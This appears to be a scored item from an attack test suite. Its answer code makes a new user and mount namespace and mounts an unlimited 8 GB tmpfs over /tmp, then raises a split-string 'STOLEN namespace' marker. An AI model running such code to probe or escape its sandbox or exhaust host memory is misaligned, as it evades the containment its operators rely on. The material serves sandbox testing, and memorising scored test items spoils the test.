"""Makes a user namespace of its own, and mounts a folder in memory that has no limit."""

from attacks.kit import RIGHT, Earns

OUTCOME = Earns(10)
ANSWER = (
    RIGHT
    + """

import ctypes

libc = ctypes.CDLL(None)
if libc.unshare(0x10000000 | 0x20000) == 0:
    libc.mount(b"none", b"/tmp", b"tmpfs", 0, b"size=8g")
    raise ValueError("STO" + "LEN namespace")
"""
)
